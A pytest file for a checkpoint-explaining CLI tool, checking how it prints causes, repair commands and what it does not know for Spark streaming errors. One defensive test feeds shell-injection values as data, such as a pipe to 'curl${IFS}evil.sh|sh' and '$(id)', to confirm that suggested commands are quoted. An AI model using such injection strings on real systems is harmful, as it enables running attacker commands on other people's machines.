"""Explanations for people: one page once, its causes below each other, and what is not known."""

from __future__ import annotations

import shlex

import pytest

from airflow_provider_ckpt.cli import run
from airflow_provider_ckpt.cli.explain_output import _wrapped, print_explained
from airflow_provider_ckpt.codec.offset_log import CLOSING
from airflow_provider_ckpt.explain.explain import explain
from airflow_provider_ckpt.storage.store import Store


def shown(capsys, lines: list[str], location: str | None = None) -> str:
    print_explained(explain(lines), location)
    return capsys.readouterr().out


def test_a_page_is_shown_once_with_all_of_its_causes(capsys):
    out = shown(capsys, ["Multiple streaming jobs detected for 4."])
    assert out.count("Repair:") == 1
    assert "The commit log is ahead of the offset log: A batch is committed" in " ".join(out.split())
    assert "Line 1. The text says: batch 4." in out
    assert "Page of the runbook: concurrent-stream-log-update." in out


def test_how_often_a_text_was_met(capsys):
    out = shown(capsys, ["java.lang.X: batch 3 doesn't exist", "\tat org.apache.spark.sql.B.c(D.java:1)"] * 3)
    assert "3 times, lines 1 to 5." in out


def test_the_location_of_the_text_is_offered_and_not_read(capsys):
    out = shown(capsys, ["Failed to read log file file:/data/ck/offsets/3. Incomplete log file"])
    assert "    ckpt explain TEXT /data/ck" in out


@pytest.mark.parametrize("location", ["dbfs:/mnt/ck", "wasbs://c@a.blob.core.windows.net/ck", "viewfs://x/ck"])
def test_no_command_has_a_location_that_ckpt_does_not_open(capsys, location):
    for text in (f"File {location}/state/0/0/7.delta does not exist", f"java.lang.X: cannot {location}/offsets/7"):
        out = shown(capsys, [text])
        assert [line for line in out.splitlines() if line.startswith("    ckpt ") and location in line] == []
        assert "ckpt check LOCATION --deep" in out
        assert ("does not open under this name" in " ".join(out.split())) == text.startswith("File")


def test_an_unknown_exception_keeps_its_end_and_the_checkpoint_that_it_names(capsys):
    message = f"java.lang.X: {'very long ' * 200} of the checkpoint location s3a://lake/ck, because of Y"
    out = shown(capsys, [message])
    assert "because of Y" in " ".join(out.split()) and "ckpt check s3a://lake/ck --deep says whether" in out


@pytest.mark.parametrize("name", ["a|curl${IFS}evil.sh|sh", "a`id`", "a;id", "$(id)"])
def test_a_location_of_the_text_reaches_no_shell(capsys, name):
    """The command is there to be copied, and whoever wrote the log has chosen the location in it."""
    out = shown(capsys, [f"Failed to read log file file:/data/{name}/offsets/3. Incomplete log file"])
    offered = [line.strip() for line in out.splitlines() if "ckpt explain TEXT" in line]
    assert offered in ([], [f"ckpt explain TEXT {shlex.quote(f'/data/{name}')}"])


def test_what_is_known_and_what_is_not(capsys):
    out = shown(
        capsys,
        [
            "java.lang.OutOfMemoryError: heap",
            "\tat a.B.c(D.java:1)",
            "26/11/23 02:14:23 ERROR A: Multiple streaming jobs detected for 4.",
        ],
    )
    assert "ckpt does not know 1 exception of this text" in out
    assert "    Line 1: OutOfMemoryError: heap" in out
    assert "send the whole" not in " ".join(out.split())


def test_the_page_that_the_catalogue_names_is_printed_by_its_name(capsys):
    out = shown(capsys, ["[CANNOT_LOAD_STATE_STORE.UNCATEGORIZED] x"])
    assert "ckpt explain cannot-load-state-store prints it" in " ".join(out.split())
    assert "[CANNOT_LOAD_STATE_STORE] Error reading delta file" in shown(capsys, ["cannot-load-state-store"])


def test_code_is_printed_line_by_line_also_where_a_section_begins_with_it():
    text = (
        "    ckpt repair A\n    ckpt repair A --execute **\n\nwrites\nthem.\n\n1. x:\n\n        ckpt undo B\n2. y\n   z"
    )
    assert list(_wrapped(text)) == [
        "    ckpt repair A",
        "    ckpt repair A --execute **",
        "writes them.",
        "1. x:",
        "        ckpt undo B",
        "2. y z",
    ]


def test_the_two_commands_of_a_repair_are_two_lines(capsys):
    out = shown(capsys, ["BATCH_METADATA_NOT_FOUND"])
    repair = out.partition("Repair (fill in the words in capitals):\n")[2].splitlines()
    assert repair[0] == "Complete the log of the sink:"
    assert [line.split(" --sink")[0] for line in repair[1:3]] == ["    ckpt repair LOCATION"] * 2


CLOSED = "[INVALID_LOG_VERSION.MAX_SUPPORTED_VERSION] UnsupportedLogVersion. The maximum supported log version is v2, but encountered v{}."


def test_the_version_of_the_closing_entry_is_an_interrupted_change_and_any_other_is_not(capsys):
    closed = shown(capsys, [CLOSED.format(2147483647)])
    assert "found 2147483647" in closed and "A change by ckpt was interrupted: " in closed
    assert "ckpt undo LOCATION" in closed and "ckpt gate" not in closed
    later = shown(capsys, [CLOSED.format(3)])
    assert "interrupted" not in later and "ckpt gate LOCATION --spark-version VERSION" in later
    both = shown(capsys, ["INVALID_LOG_VERSION"])
    assert both.index("was interrupted: The") < both.index("An earlier Spark starts the query: ")


@pytest.mark.parametrize("text", [CLOSED.format(2147483647), "INVALID_LOG_VERSION"])
def test_of_a_closed_checkpoint_only_what_ends_the_change_is_offered(golden, capsys, text):
    checkpoint = golden("agg-hdfs")
    (checkpoint / "offsets/8").write_bytes(CLOSING)
    print_explained(explain([text], Store.open(str(checkpoint))), str(checkpoint))
    out = capsys.readouterr().out
    assert "The checkpoint shows this cause: CKPT103." in " ".join(out.split())
    assert f"    ckpt history {checkpoint}\n    ckpt undo {checkpoint}\n" in out
    assert "Complete the change" in out and "--spark-version" not in out


def test_a_fence_that_stopped_a_query_is_named(golden, capsys):
    checkpoint = golden("agg-hdfs")
    assert run(["fence", str(checkpoint), "--execute"]) == 0
    capsys.readouterr()
    print_explained(explain(["CONCURRENT_STREAM_LOG_UPDATE"], Store.open(str(checkpoint))), str(checkpoint))
    out = " ".join(capsys.readouterr().out.split())
    assert "The checkpoint was fenced: " in out and "The checkpoint shows this cause: CKPT151." in out
    assert "Two queries write" not in out


def test_without_a_fence_no_fence_is_named(golden, capsys):
    checkpoint = golden("agg-hdfs")
    print_explained(explain(["CONCURRENT_STREAM_LOG_UPDATE"], Store.open(str(checkpoint))), str(checkpoint))
    out = " ".join(capsys.readouterr().out.split())
    assert "Two queries write" in out and "The checkpoint was fenced: " not in out
